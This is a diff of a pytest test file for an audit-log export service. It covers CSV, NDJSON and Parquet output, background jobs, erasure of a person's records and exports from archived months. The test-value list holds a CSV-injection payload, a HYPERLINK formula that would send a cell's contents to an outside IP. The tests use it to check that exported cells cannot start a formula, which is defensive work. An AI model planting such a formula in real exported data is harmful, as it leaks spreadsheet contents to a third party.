@@ -6,12 +6,10 @@ import io
 import json
 import os
 import signal
-import socket
 import subprocess
 import sys
 import threading
 import time
-from collections.abc import Callable, Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -22,8 +20,10 @@ import httpx
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from moved_clock import MovedClock, month
 from test_server_running import Api, serving
 
+from audit_pipelines.derive.archiving import retain
 from audit_pipelines.exports import jobs, making, reading
 from audit_pipelines.exports.selection import Selection
 from audit_pipelines.installation import Installation
@@ -38,14 +38,15 @@ EXPORT = "/api/audit/export"
 EXPORTS = "/api/audit/exports"
 BOB = "bob@example.org"
 NASTY = [
-    "=HYPERLINK(\"http://203.0.113.9/?\"&A1)", "+1+1", "-2", "@SUM(A1)", "\t=1", "0042", "00000000000000000000000000000017",
-    "監査, 証跡", 'a "quoted" word', "semi;colon", "x" * 900, "1e999", "2026-03-01", "שלום", "'plain",
+    '=HYPERLINK("http://203.0.113.9/?"&A1)', "+1+1", "-2", "@SUM(A1)", "\t=1", "0042",
+    "00000000000000000000000000000017", "監査, 証跡", 'a "quoted" word', "semi;colon", "x" * 900, "1e999",
+    "2026-03-01", "שלום", "'plain",
 ]  # fmt: skip
 
 
 @pytest.fixture
 def settings(settings: Settings) -> Settings:
-    return settings.model_copy(update={"audit_export_batch_size": 7})
+    return settings.model_copy(update={"audit_export_batch_size": 7, "audit_archive_grace_days": 0})
 
 
 def fill(installation: Installation, tenant_id: UUID, count: int = 40, *, actor: str = BOB) -> None:
@@ -120,12 +121,12 @@ def test_every_format_has_what_the_timeline_shows(api: Api, tenant_id: UUID, per
     asked = {"filters": {"actor": BOB}}
     lines = export(client, "ndjson", **asked).text.splitlines()
     assert [json.loads(line) for line in lines] == expected
-    assert [json.loads(line).keys() for line in lines][0] == expected[0].keys()
+    assert next(json.loads(line).keys() for line in lines) == expected[0].keys()
 
     content = export(client, "csv", **asked).content
     assert content.count(b"\r\n") >= len(expected) + 1
     rows = list(csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True))
-    names = [name for name in ("actor", "event_type", "entity_type", "outcome", "ip_index", "row_hash", "event_id")]
+    names = ["actor", "event_type", "entity_type", "outcome", "ip_index", "row_hash", "event_id"]
     for row, event in zip(rows, expected, strict=True):
         assert int(row["seq"]) == event["seq"]
         assert row["occurred_at"] == event["occurred_at"]
@@ -133,7 +134,8 @@ def test_every_format_has_what_the_timeline_shows(api: Api, tenant_id: UUID, per
         assert armed(row["entity_id"]) == event["entity_id"]
         assert armed(row["user_agent"]) == event["user_agent"]
         assert (json.loads(row["details"]) if row["details"] else None) == event["details"]
-        assert row["entity_id"][0] not in "=+-@\t" and row["user_agent"][0] not in "=+-@\t"
+        assert row["entity_id"][0] not in "=+-@\t"
+        assert row["user_agent"][0] not in "=+-@\t"
     assert ("actor" in rows[0]) == ("audit:privacy" in permissions)
 
     table = pq.read_table(pa.BufferReader(export(client, "parquet", **asked).content))
@@ -265,12 +267,13 @@ def test_the_ledger_has_the_digest_before_the_last_byte_leaves(api: Api, tenant_
     [made] = made_events(client)
     assert made["details"]["sha256"] == shown["sha256"] == digest
     assert (made["details"]["rows"], made["details"]["bytes"]) == (20, len(response.content))
-    assert made["actor"] == "auditor" and made["seq"] == shown["seq"]
+    assert made["actor"] == "auditor"
+    assert made["seq"] == shown["seq"]
     assert BOB not in json.dumps(made["details"])
-    assert shown["state"] == "streamed" and shown["download_url"] is None
-    [access] = [line for line in client.get("/api/audit/access-log").json()["accesses"] if "export" in line["action"]][
-        :1
-    ]
+    assert shown["state"] == "streamed"
+    assert shown["download_url"] is None
+    lines = client.get("/api/audit/access-log").json()["accesses"]
+    [access] = [line for line in lines if line["action"] == "export.csv"]
     assert (access["action"], access["result_count"]) == ("export.csv", 20)
 
 
@@ -293,10 +296,9 @@ def test_an_export_ends_where_the_ledger_did_when_it_was_asked_for(installation:
 
 def open_statements(api: Api) -> int:
     with api.installation.database.connect_admin() as conn:
-        print(conn.execute("select state,query,usename from pg_stat_activity where datname = current_database()").fetchall())
         [(count,)] = conn.execute(
-            "select count(*) from pg_stat_activity where datname = current_database() and backend_type = 'client backend' "
-            "and application_name = '' and (state = 'active' or state like 'idle in%') and pid <> pg_backend_pid()"
+            "select count(*) from pg_stat_activity where datname = current_database() "
+            "and backend_type = 'client backend' and application_name = '' and (state = 'active' or state like 'idle in%') and pid <> pg_backend_pid()"
         ).fetchall()
     return int(count)
 
@@ -321,7 +323,7 @@ def test_a_client_that_goes_frees_its_place_and_its_connection(api: Api, tenant_
             assert response.status_code == 200
             next(response.iter_raw(1024))
     deadline = time.monotonic() + 20
-    while (broken := [e for e in made_events(client) if e["outcome"] == "failure"]) and len(broken) < 6 or not broken:
+    while ((broken := [e for e in made_events(client) if e["outcome"] == "failure"]) and len(broken) < 6) or not broken:
         assert time.monotonic() < deadline
     assert backends(api) <= before + 1
     assert export(client, "csv", filters={"limit": 3}).status_code == 200
@@ -345,18 +347,13 @@ def test_a_reader_that_sleeps_holds_no_transaction_and_others_are_told_when_all_
     for each in opened:
         assert each.__enter__().status_code == 200
     refused = client.post(f"{EXPORT}/csv", json={})
-    assert refused.status_code == 503 and int(refused.headers["retry-after"]) > 0
-    assert open_statements(api) == 0
+    assert refused.status_code == 503
+    assert int(refused.headers["retry-after"]) > 0
+    deadline = time.monotonic() + 10
+    while open_statements(api):
+        assert time.monotonic() < deadline
     for each in opened:
         each.__exit__(None, None, None)
-
-
-def test_a_month_that_leaves_the_database_meanwhile_is_read_from_the_archive(
-    installation: Installation, tenant_id: UUID
-) -> None:
-    fill(installation, tenant_id, 30)
-    low, high, archive = reading._next_part([], 0, 29, 7, newest=False)
-    assert (low, high, archive) == (0, 29, None)
 
 
 # In the background
@@ -372,7 +369,8 @@ def test_a_job_has_progress_a_file_a_digest_and_an_end(api: Api, tenant_id: UUID
     file = client.get(shown["download_url"])
     assert hashlib.sha256(file.content).hexdigest() == shown["sha256"]
     assert file.content == export(client, "csv", filters={"actor": BOB}).content
-    assert "attachment" in file.headers["content-disposition"] and file.headers["repr-digest"].startswith("sha-256=:")
+    assert "attachment" in file.headers["content-disposition"]
+    assert file.headers["repr-digest"].startswith("sha-256=:")
     made = next(each for each in made_events(client) if each["seq"] == shown["seq"])
     assert made["details"]["sha256"] == shown["sha256"]
     path = jobs.path_of(api.installation, tenant_id, UUID(shown["export_id"]), "csv")
@@ -417,7 +415,8 @@ def test_who_did_not_ask_sees_nothing_of_it(api: Api, tenant_id: UUID) -> None:
 def test_a_job_that_cannot_be_made_says_why(api: Api, tenant_id: UUID) -> None:
     client = api.client(tenant_id)
     shown = wait(client, export(client, "evidence", 202, background=True).json()["export_id"], "failed", "ready")
-    assert shown["state"] == "failed" and "at least one event" in shown["error"]
+    assert shown["state"] == "failed"
+    assert "at least one event" in shown["error"]
 
 
 def test_a_tenant_has_so_many_jobs_at_most(api: Api, tenant_id: UUID, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -474,7 +473,8 @@ def test_a_job_is_taken_up_after_its_process_was_killed(installation: Installati
         ],
         stdout=subprocess.PIPE,
     ) as held:
-        assert held.stdout and held.stdout.readline() == b"claimed\n"
+        assert held.stdout
+        assert held.stdout.readline() == b"claimed\n"
         held.send_signal(signal.SIGKILL)
     assert states(installation) == [("running", 1)]
     assert not jobs.run_next(installation, threading.Event())
@@ -484,7 +484,9 @@ def test_a_job_is_taken_up_after_its_process_was_killed(installation: Installati
     assert states(installation) == [("ready", 2)]
     content = jobs.path_of(installation, tenant_id, wanted.export_id, "csv").read_bytes()
     shown = jobs.show(installation, tenant_id, wanted.export_id)
-    assert shown and shown.sha256 == hashlib.sha256(content).digest() and shown.rows_done == 40
+    assert shown
+    assert shown.sha256 == hashlib.sha256(content).digest()
+    assert shown.rows_done == 40
 
 
 HOLDING = """
@@ -495,3 +497,140 @@ with psycopg.connect(sys.argv[1]) as conn:
 print("claimed", flush=True)
 time.sleep(600)
 """
+
+
+# Persons and old months
+
+
+def test_an_erasure_takes_the_files_that_hold_the_person(api: Api, tenant_id: UUID) -> None:
+    fill(api.installation, tenant_id)
+    client = api.client(tenant_id, subject="auditor")
+    by_format = {
+        form: wait(client, export(client, form, 202, background=True, filters=filters).json()["export_id"], "ready")
+        for form, filters in (("csv", {}), ("parquet", {}), ("ndjson", {"actor": "ann"}))
+    }
+    begun = erasing.begin(api.installation, tenant_id, BOB)
+    assert erasing.finish(api.installation, tenant_id, begun.actor_ref, run_id="a test")
+    for form in ("csv", "parquet"):
+        shown = client.get(f"{EXPORTS}/{by_format[form]['export_id']}").json()
+        assert (shown["state"], shown["download_url"]) == ("removed", None)
+        assert client.get(by_format[form]["download_url"]).status_code == 410
+    kept = client.get(by_format["ndjson"]["download_url"])
+    assert kept.status_code == 200
+    assert BOB not in kept.text
+    assert BOB not in export(client, "csv").text
+
+
+def test_a_file_that_was_being_made_during_an_erasure_is_made_anew(
+    installation: Installation, tenant_id: UUID, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fill(installation, tenant_id)
+    wanted = making.order(installation, tenant_id, "csv", Selection(), {}, by="ann", with_names=True)
+    jobs.queue(installation, wanted)
+    write = making.write
+
+    def and_then_bob_goes(*arguments: Any) -> making.Made:
+        made = write(*arguments)
+        monkeypatch.setattr(making, "write", write)
+        installation.erase(tenant_id, BOB)
+        return made
+
+    monkeypatch.setattr(making, "write", and_then_bob_goes)
+    assert jobs.run_next(installation, threading.Event())
+    assert states(installation) == [("waiting", 0)]
+    path = jobs.path_of(installation, tenant_id, wanted.export_id, "csv")
+    assert not path.exists()
+    assert jobs.run_next(installation, threading.Event())
+    assert BOB not in path.read_text()
+
+
+def test_a_cancelled_job_leaves_no_file(
+    installation: Installation, tenant_id: UUID, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fill(installation, tenant_id)
+    wanted = making.order(installation, tenant_id, "csv", Selection(), {}, by="ann", with_names=True)
+    jobs.queue(installation, wanted)
+    write = making.write
+
+    def and_then_nobody_wants_it(*arguments: Any) -> making.Made:
+        made = write(*arguments)
+        shown = jobs.show(installation, tenant_id, wanted.export_id)
+        assert shown
+        jobs.cancel(installation, tenant_id, shown)
+        return made
+
+    monkeypatch.setattr(making, "write", and_then_nobody_wants_it)
+    head = reading.head_of(installation, tenant_id)
+    assert jobs.run_next(installation, threading.Event())
+    assert states(installation) == [("cancelled", 1)]
+    assert not jobs.path_of(installation, tenant_id, wanted.export_id, "csv").exists()
+    assert reading.head_of(installation, tenant_id) == head
+
+
+@pytest.fixture
+def aged(installation: Installation, tenant_id: UUID) -> Installation:
+    """Twenty events of two months that are old enough for the archive, and ten of today."""
+    clock = MovedClock(installation)
+    for ago in (16, 14):
+        clock.append(month(ago), tenant_id, [old_event(ago, number) for number in range(10)])
+    clock.set(None)
+    installation.ledger.append(tenant_id, [old_event(0, number) for number in range(10)])
+    installation.seal(tenant_id)
+    return installation
+
+
+def old_event(ago: int, number: int) -> Event:
+    return Event(
+        event_type=f"kind.{number % 3}",
+        entity_type="record",
+        entity_id=f"r-{ago}",
+        actor=BOB if number % 2 else "ann",
+        ip_address="198.51.100.7",
+        details={"ago": ago, "number": number},
+    )
+
+
+def exported(installation: Installation, tenant_id: UUID, form: str, selection: Selection) -> bytes:
+    wanted = making.order(installation, tenant_id, form, selection, {}, by="ann", with_names=True)  # type: ignore[arg-type]
+    return b"".join(making.Making(installation, wanted))
+
+
+def test_archived_months_are_exported_as_if_they_were_here(aged: Installation, tenant_id: UUID) -> None:
+    selections = [
+        Selection(newest_first=newest, event_type=kind, limit=limit, actor_ref=ref)
+        for newest in (True, False)
+        for kind in (None, "kind.1")
+        for limit in (None, 13)
+        for ref in (None, aged.vault.find(tenant_id, BOB))
+    ]
+    before = [exported(aged, tenant_id, "csv", each) for each in selections]
+    assert len(before[0].splitlines()) == 31
+    aged.seal(tenant_id)
+    done = retain(aged, run_id="a test")
+    assert len(done.released) == 2
+    assert [exported(aged, tenant_id, "csv", each) for each in selections] == before
+    assert reading.left_out(aged, tenant_id, Selection()) == []
+    assert len(reading.left_out(aged, tenant_id, Selection(q="number"))) == 2
+    head = reading.head_of(aged, tenant_id)
+    assert reading.count(aged, tenant_id, Selection(), head, most=None) == 30
+
+
+def test_a_month_that_leaves_the_database_while_it_is_read_is_not_lost(aged: Installation, tenant_id: UUID) -> None:
+    selection = Selection(newest_first=False)
+    wanted = making.order(aged, tenant_id, "ndjson", selection, {}, by="ann", with_names=True)
+    pieces = iter(making.Making(aged, wanted))
+    lines = next(pieces)
+    aged.seal(tenant_id)
+    assert len(retain(aged, run_id="a test").released) == 2
+    lines += b"".join(pieces)
+    assert [json.loads(line)["seq"] for line in lines.splitlines()] == list(range(30))
+
+
+def test_an_archive_that_is_missing_refuses_the_export(aged: Installation, tenant_id: UUID) -> None:
+    retain(aged, run_id="a test")
+    for path in (aged.settings.storage_dir / "archives").rglob("*.parquet"):
+        path.unlink()
+    with serving(aged) as api:
+        assert export(api.client(tenant_id), "csv", 503).json()["type"].endswith("archive-unavailable")
+        recent = {"from": datetime.now(UTC).replace(hour=0, minute=0).isoformat()}
+        assert export(api.client(tenant_id), "csv", 200, filters=recent).status_code == 200
